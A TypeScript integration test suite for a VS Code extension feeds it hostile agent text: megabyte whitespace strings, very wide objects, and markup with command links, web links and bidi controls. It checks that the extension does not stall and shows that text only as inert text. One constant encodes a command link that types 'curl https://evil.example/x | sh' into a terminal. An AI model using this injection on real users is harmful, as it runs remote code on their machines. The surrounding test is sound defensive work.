// Hostile agent text through the real extension host: whitespace-dense megabyte strings in the fields the
// extension shows (command descriptions sent unasked after session/new, to-do rows, past-chat titles), lines
// of one very wide object, and markup (command links, web links, codicons, bidi controls) in errors and
// titles. Measured where the user would feel it: a 50 ms timer in this extension host, and what each surface shows.
import * as assert from 'assert';
import * as vscode from 'vscode';
import { dense, wide } from '../../fixtures/acp/hostileText';
import { chatRequest, lmRequest, assertLmAnswer } from '../requests';
import { renderedAnswer, waitFor, workspacePath } from '../helpers';
import { acpReady, freshAgents, setUserSetting } from './support';
import { assertNoStall, worstStall } from './stall';

const MB = 1024 * 1024;
/** The known repro: a JSON-RPC error whose message is a link that types `curl … | sh` into a terminal. */
const COMMAND_LINK =
  '[Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%2Fx%20%7C%20sh%5Cn%22%7D)';
const MARKUP = `${COMMAND_LINK} [docs](https://evil.example/docs) $(alert) \u2066hidden\u2069 \u061c \u202eabc`;
/** A past chat's title: 120 characters are shown, so the web link first. */
const TITLE_MARKUP = `[docs](https://evil.example/docs) $(alert) \u2066hidden\u2069 ${COMMAND_LINK}`;
const PAST_ID = 'eeeeeeee-5555-4555-8555-555555555555';

/** What no surface may show of agent text: a command or web link, a codicon, a bidi control. */
function assertInert(shown: string, where: string): void {
  assert.ok(!shown.includes('](command:'), `${where}: a command link: ${shown.slice(0, 600)}`);
  assert.ok(!shown.includes('](http'), `${where}: a web link: ${shown.slice(0, 600)}`);
  assert.ok(!/(?<!\\)\$\(/.test(shown), `${where}: a codicon: ${shown.slice(0, 600)}`);
  assert.ok(!/[\u2066-\u2069\u061c\u202a-\u202e]/.test(shown), `${where}: a bidi control: ${JSON.stringify(shown.slice(0, 600))}`);
}

/**
 * Runs `run` with `vscode.window.<name>` replaced by `fake` (the extension and this suite share the API object
 * of the extension under test), restored after.
 */
async function withWindow<K extends 'showErrorMessage' | 'showQuickPick', T>(name: K, fake: unknown, run: () => PromiseLike<T>): Promise<T> {
  const w = vscode.window as unknown as Record<string, unknown>;
  const original = w[name];
  w[name] = fake;
  try {
    return await run();
  } finally {
    w[name] = original;
  }
}

describe('hostile agent text (ACP)', function () {
  this.timeout(120_000);
  before(async function () {
    this.timeout(30_000);
    await acpReady();
  });
  afterEach(async () => {
    await setUserSetting('backend', undefined);
    await setUserSetting('firstOutputTimeoutSeconds', undefined);
  });

  it('three 8 MB whitespace-dense command descriptions after session/new: no host stall over 250 ms; /commands shows 200 characters of each, as text', async function () {
    const hostile = (i: number) => [
      { name: `hostile-${i}`, description: `${MARKUP} ${dense(8 * MB - 128 * 1024)}`, input: { hint: dense(64 * 1024) } },
    ];
    const stall = await worstStall(async () => {
      await freshAgents({ commandsBytes: 0, commandLines: [hostile(0), hostile(1), hostile(2)] });
      // The latest list of any session is the last line read: all three have been read once it is hostile-2.
      return waitFor(
        'the third hostile command list in /commands',
        async () => {
          await chatRequest('/commands');
          const text = await renderedAnswer();
          return text.includes('hostile-2') ? text : undefined;
        },
        60_000,
        200,
      );
    });
    const shown = stall.value;
    const line = shown.split('\n').find((l) => l.includes('hostile-2')) ?? '';
    const description = line.slice(line.indexOf(': ') + 2);
    assert.ok(description.startsWith('\\[Sign in again\\]'), line.slice(0, 300));
    // At most 200 characters of the description as shown (markdown escapes aside).
    assert.ok(Array.from(description.replace(/\\(.)/g, '$1')).length <= 200, `${description.length}: ${description.slice(0, 300)}`);
    assertInert(shown, '/commands');
    assert.ok(shown.includes('https\\://evil.example/docs'), `the URL is not shown as text: ${line.slice(0, 400)}`);
    assertNoStall(this, stall);
  });

  it('a turn with a 7 MB to-do row: no host stall over 250 ms, and every checklist row is a few hundred characters at most', async function () {
    const toolCallId = 'tool_dense-todo';
    await freshAgents({
      turn: {
        kind: 'script',
        steps: [
          {
            update: {
              sessionUpdate: 'tool_call',
              toolCallId,
              title: dense(MB),
              kind: 'other',
              status: 'pending',
              rawInput: { _toolName: 'updateTodos' },
            },
          },
          {
            ask: 'cursor/update_todos',
            params: {
              toolCallId,
              merge: false,
              todos: [
                { id: 'a', content: `${MARKUP} ${dense(7 * MB)}`, status: 'in_progress' },
                { id: 'b', content: 'Second step', status: 'pending' },
              ],
            },
          },
        ],
        text: 'Listed.',
      },
    });
    // The answer's checklist (VS Code's own list has its own test: 15-native-todos).
    await setUserSetting('nativeChatUi', false);
    const stall = await worstStall(() => chatRequest('Plan it. dense-todo'));
    const r = stall.value;
    await setUserSetting('nativeChatUi', undefined);
    assert.strictEqual(r.metadata?.errorKind, undefined, JSON.stringify(r).slice(0, 500));
    const shown = await renderedAnswer();
    assert.ok(shown.includes('Listed.'), shown.slice(0, 500));
    const rows = shown.split('\n').filter((l) => /^\s*- \[[ x]\]/.test(l));
    assert.strictEqual(rows.length, 2, shown.slice(0, 1000));
    for (const row of rows) assert.ok(row.length <= 500, `a checklist row of ${row.length} characters`);
    assertInert(shown, 'the checklist');
    assertNoStall(this, stall);
  });

  it('five 8 MB tool_call lines of one 690,000-key object in a turn that answers ok: no host stall over 250 ms, the answer is ok', async function () {
    const steps = Array.from({ length: 5 }, (_, i) => ({
      update: { sessionUpdate: 'tool_call', toolCallId: `tool_wide-${i}`, title: 'Read', kind: 'read', status: 'pending', rawInput: wide(690_000) },
    }));
    await freshAgents({ turn: { kind: 'script', steps, text: 'ok' } });
    const stall = await worstStall(() => lmRequest('Say ok. wide-objects'));
    const o = stall.value;
    assertLmAnswer(o, 'ok');
    assertNoStall(this, stall);
  });

  it('"Cursor: Open Past Chat…": a session/list error with a command link shows in the notification as text, never a link', async () => {
    await setUserSetting('backend', 'acp');
    await freshAgents({ listError: { code: -32603, message: MARKUP } });
    const shown: string[] = [];
    const fake = (message: string) => {
      shown.push(message);
      return Promise.resolve(undefined);
    };
    // The listing's own error (a process ended by freshAgents may fail a first listing with its exit).
    const message = await waitFor(
      'the session/list error in a notification',
      async () => {
        await withWindow('showErrorMessage', fake, () => vscode.commands.executeCommand('cursorAgent.openPastChat'));
        return shown.find((m) => m.includes('Sign in again'));
      },
      20_000,
      100,
    );
    for (const m of shown) assertInert(m, 'showErrorMessage');
    assert.ok(message.includes('Sign in again'), message);
    // The same error in the chat (/resume): the error details are text too.
    const r = await chatRequest('/resume');
    assert.ok(r.errorDetails?.message.includes('Sign in again'), JSON.stringify(r));
    assertInert(r.errorDetails?.message ?? '', 'chat error details');
  });

  it('"Cursor: Open Past Chat…": a past chat titled with markup and 8 MB of whitespace is one bounded, inert quick pick label; no stall over 250 ms', async function () {
    await freshAgents({
      pastSessions: [
        { sessionId: PAST_ID, cwd: workspacePath(), title: `${TITLE_MARKUP} ${dense(8 * MB - 4096)}`, updatedAt: new Date().toISOString() },
      ],
    });
    const labels: string[] = [];
    const stall = await worstStall(() =>
      withWindow(
        'showQuickPick',
        (items: ReadonlyArray<{ label: string; description?: string }>) => {
          for (const i of items) labels.push(i.label, i.description ?? '');
          return Promise.resolve(undefined);
        },
        () => vscode.commands.executeCommand('cursorAgent.openPastChat'),
      ),
    );
    assert.ok(labels.length >= 2, JSON.stringify(labels).slice(0, 500));
    assert.ok(labels[0]!.startsWith('[docs] (https://evil.example/docs)'), labels[0]);
    assert.ok(Array.from(labels[0]!).length <= 120, `${labels[0]!.length} characters`);
    for (const l of labels) assertInert(l, 'the quick pick');
    // The same title in the chat (/resume): plain text, the URL as text.
    await chatRequest('/resume');
    const shown = await renderedAnswer();
    assertInert(shown, '/resume');
    assert.ok(shown.includes('https\\://evil.example/docs'), shown.slice(0, 600));
    assertNoStall(this, stall);
  });

  it('a session/list answer too costly to parse fails at once, not after the setup deadline', async () => {
    await setUserSetting('backend', 'acp');
    await setUserSetting('firstOutputTimeoutSeconds', 60);
    await freshAgents({ listWide: 690_000 });
    const t0 = Date.now();
    const r = await chatRequest('/resume');
    const ms = Date.now() - t0;
    assert.ok(r.errorDetails, JSON.stringify(r));
    assert.ok(ms < 15_000, `the listing failed after ${ms} ms`);
  });
});
